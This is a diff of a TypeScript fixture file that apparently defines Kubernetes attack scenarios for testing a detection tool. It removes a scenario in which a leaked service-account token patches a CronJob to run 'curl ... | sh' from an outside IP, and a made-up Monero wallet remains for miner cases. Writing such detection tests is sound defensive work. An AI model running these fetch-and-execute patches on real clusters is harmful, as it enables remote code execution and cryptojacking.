@@ -1,5 +1,5 @@
-import type { Actor, Scenario } from '../types.js';
-import { compromisedDeveloper, serviceAccountToken } from './actors.js';
+import type { Scenario } from '../types.js';
+import { compromisedDeveloper } from './actors.js';
 import { appsWorkload, container, cronJob, job, pod, shell } from './manifests.js';
 import { stolenBuildAgentToken } from './seeds.js';
 import { applyClientSide, create, patch } from './steps.js';
@@ -9,30 +9,6 @@ const b64 = (text: string): string => Buffer.from(text).toString('base64');
 // A made-up Monero address: the right length and alphabet, owned by nobody.
 const WALLET =
   '48yNDc5dPK3fWJVXpNmGMTzQwXbk4cTiSQJa7Xn2LZSJeBwGvCmH9rkT6yVPd8EiS3aF5Lq2CXnTbYwRz4JvKpM7UhQnEx2';
-
-/** The web team's deploy bot, whose token sat in a CI variable that leaked. */
-const webDeployerToken: Actor = serviceAccountToken({
-  namespace: 'web',
-  serviceAccount: 'web-deployer',
-  pod: 'web-deployer-runner-0',
-  node: 'ip-10-0-14-202.eu-west-1.compute.internal',
-  podIP: '10.0.15.77',
-  authorizationReason:
-    'RBAC: allowed by RoleBinding "web-deployer/web" of ClusterRole "edit" to ServiceAccount "web-deployer/web"',
-});
-
-const cacheWarmer = cronJob(
-  { name: 'cache-warmer', namespace: 'web', labels: { app: 'cache-warmer' } },
-  '*/15 * * * *',
-  {
-    containers: [
-      container('cache-warmer', 'curlimages/curl:8.7.1', {
-        command: ['curl', '-sf', 'http://storefront.web.svc.cluster.local/internal/warmup'],
-      }),
-    ],
-    restartPolicy: 'OnFailure',
-  },
-);
 
 const logRotate = cronJob({ name: 'log-rotate', namespace: 'ops' }, '*/10 * * * *', {
   containers: [
@@ -51,40 +27,6 @@ const base = {
 
 /** Downloaders, encoded and obfuscated commands, and miners. */
 export const PAYLOAD_SCENARIOS: Scenario[] = [
-  {
-    ...base,
-    id: 'download-curl-pipe-sh-strategic-patch-cronjob',
-    title: 'Strategic-merge patch makes a cache warmer pipe curl into sh',
-    description:
-      'kubectl patch (strategic merge, the default) merges a new command into the existing container by name; the stored CronJob is logged.',
-    evasionClass: 'curl | sh via strategic-merge patch',
-    steps: [
-      patch(
-        webDeployerToken,
-        cacheWarmer,
-        'strategic',
-        {
-          spec: {
-            jobTemplate: {
-              spec: {
-                template: {
-                  spec: {
-                    containers: [
-                      {
-                        name: 'cache-warmer',
-                        command: ['/bin/sh', '-c', 'curl -fsSL https://198.51.100.77/k.sh | sh'],
-                      },
-                    ],
-                  },
-                },
-              },
-            },
-          },
-        },
-        { followUps: 2 },
-      ),
-    ],
-  },
   {
     ...base,
     id: 'download-wget-bash-job',
